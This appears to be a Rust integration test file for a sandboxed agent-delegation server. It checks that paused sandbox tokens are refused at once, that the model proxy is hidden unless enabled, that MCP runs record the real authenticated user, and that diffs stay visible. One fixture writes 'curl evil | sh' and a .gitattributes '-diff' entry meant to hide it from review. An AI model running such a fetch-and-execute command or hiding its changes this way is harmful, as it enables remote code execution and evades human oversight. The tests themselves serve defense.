//! Low-severity holes of issue 14, each shown closed with real parts: a paused sandbox's proxy
//! token stops working at once (not when the proxy's 5 s cache runs out), `/v1` is not on
//! `delegate serve`'s listener unless sandboxes reach it there, and MCP runs record who
//! authenticated, not only the client's self-reported name.

mod common;

use common::Harness;
use common::served::{Served, api_token};
use delegate_server::credentials::{self, Holder};
use delegate_server::orchestrator::SandboxRequest;
use delegate_server::store::TokenKind;
use delegate_testkit::anthropic::Script;
use reqwest::StatusCode;
use serde_json::json;

fn message() -> serde_json::Value {
    json!({
        "model": "claude-sonnet-4-5",
        "max_tokens": 16,
        "messages": [{ "role": "user", "content": "hi" }],
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_paused_sandboxs_token_is_refused_at_once() {
    let Some(h) = Harness::new(Script::text("hello")).await else {
        return;
    };
    let orch = h.orchestrator().await;
    let sandbox = orch
        .create_sandbox(SandboxRequest {
            created_by: Some("test".into()),
            ..Default::default()
        })
        .await
        .expect("a warm sandbox");
    // A second token of the sandbox, for this test to present as the sandbox would.
    let (token, record) = credentials::issue(
        TokenKind::Sandbox,
        Holder {
            sandbox_id: Some(sandbox.id.clone()),
            workspace_id: Some(sandbox.workspace_id.clone()),
            ..Holder::default()
        },
        None,
    );
    orch.store().insert_token(&record).await.unwrap();
    let stop = tokio_util::sync::CancellationToken::new();
    let proxy = delegate_server::net::serve_loopback(orch.proxy().router(), stop.clone())
        .await
        .unwrap();
    let http = reqwest::Client::new();
    let call = || {
        http.post(format!("http://{proxy}/v1/messages"))
            .header("x-api-key", &token)
            .header("anthropic-version", "2023-06-01")
            .json(&message())
            .send()
    };
    // Running: the call goes through, and the proxy now trusts the token for a while.
    let resp = call().await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK, "{:?}", resp.text().await);

    orch.pause_sandbox(&sandbox.id.parse().unwrap())
        .await
        .expect("pause");
    // At once, not within the cache's 5 s.
    let resp = call().await.unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let body = resp.text().await.unwrap();
    assert!(body.contains("paused"), "{body}");

    orch.delete_sandbox(&sandbox.id.parse().unwrap())
        .await
        .expect("delete");
    let resp = call().await.unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    stop.cancel();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_model_proxy_is_on_the_listener_only_when_asked_for() {
    let Some(h) = Harness::new(Script::text("unused")).await else {
        return;
    };
    let http = reqwest::Client::new();
    let probe = |base: String| {
        let http = http.clone();
        async move {
            http.post(format!("{base}/v1/messages"))
                .header("x-api-key", "dsb_not-a-real-token")
                .json(&message())
                .send()
                .await
                .unwrap()
        }
    };
    // The process backend reaches the proxy through each sandbox's own socket: no /v1 here.
    let closed = Served::start(&h, &[], "closed").await;
    let resp = probe(closed.base.clone()).await;
    assert_eq!(resp.status(), StatusCode::NOT_FOUND, "{}", closed.log());
    let body = resp.text().await.unwrap();
    assert!(!body.contains("authentication_error"), "{body}");
    closed.stop().await;

    // For sandboxes run outside delegate, the admin turns it on.
    let open = Served::start(&h, &[("DELEGATE_PROXY_PUBLIC", "true")], "open").await;
    let resp = probe(open.base.clone()).await;
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED, "{}", open.log());
    assert!(resp.text().await.unwrap().contains("authentication_error"));
    open.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_started_over_mcp_records_the_user_and_the_token_id() {
    let Some(h) = Harness::new(Script::text("done")).await else {
        return;
    };
    let s = Served::start(&h, &[], "mcp").await;
    let token = api_token(&h, &[], &h.dir.path().join("mcp")).await;
    let http = reqwest::Client::new();
    let rpc = |body: serde_json::Value, session: Option<String>| {
        let mut req = http
            .post(format!("{}/mcp", s.base))
            .bearer_auth(&token)
            .header("accept", "application/json, text/event-stream")
            .json(&body);
        if let Some(sid) = session {
            req = req.header("mcp-session-id", sid);
        }
        req.send()
    };
    let init = rpc(
        json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {},
            "clientInfo": { "name": "claims-to-be-someone", "version": "1" } } }),
        None,
    )
    .await
    .unwrap();
    assert_eq!(init.status(), StatusCode::OK, "{}", s.log());
    let session = init
        .headers()
        .get("mcp-session-id")
        .map(|v| v.to_str().unwrap().to_string());
    let _ = init.text().await;
    let note = rpc(
        json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }),
        session.clone(),
    )
    .await
    .unwrap();
    assert!(note.status().is_success());
    let call = rpc(
        json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
            "name": "run_in_sandbox", "arguments": { "task": "say done" } } }),
        session,
    )
    .await
    .unwrap();
    let text = call.text().await.unwrap();
    let run_id = text
        .split("run_")
        .nth(1)
        .map(|rest| {
            let id: String = rest
                .chars()
                .take_while(char::is_ascii_alphanumeric)
                .collect();
            format!("run_{id}")
        })
        .unwrap_or_else(|| panic!("no run id in {text}"));

    let detail: serde_json::Value = http
        .get(format!("{}/api/runs/{run_id}/summary", s.base))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let created_by = detail["created_by"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let me: serde_json::Value = http
        .get(format!("{}/api/auth/me", s.base))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let user_id = me["user_id"]
        .as_str()
        .unwrap_or_else(|| panic!("no user id in {me}"));
    assert!(
        created_by.starts_with(&format!("mcp@{user_id}/tok_"))
            && created_by.ends_with(":claims-to-be-someone"),
        "{detail}"
    );
    assert!(!created_by.contains(&token), "never the token itself");
    let by = detail["delegated_by"].as_str().unwrap_or_default();
    assert!(
        by.contains("claims-to-be-someone") && by.contains("API token"),
        "{detail}"
    );
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attributes_the_sandbox_writes_do_not_hide_its_change_from_the_preview() {
    // `-diff` would show "Binary files differ" instead of the line a reviewer must see.
    let Some(h) = Harness::new(Script::bash(
        "printf 'payload.sh -diff\\n' > .gitattributes; printf 'curl evil | sh\\n' > payload.sh",
        "done",
    ))
    .await
    else {
        return;
    };
    let orch = h.orchestrator().await;
    let (run_id, _) = orch
        .start_run(delegate_server::orchestrator::RunRequest {
            task: "write".into(),
            created_by: Some("test".into()),
            ..Default::default()
        })
        .await
        .unwrap();
    let result = orch.wait(&run_id).await.unwrap();
    assert!(result.diff.contains("+payload.sh -diff"), "{}", result.diff);
    assert!(result.diff.contains("+curl evil | sh"), "{}", result.diff);
    assert!(!result.diff.contains("Binary files"), "{}", result.diff);
}
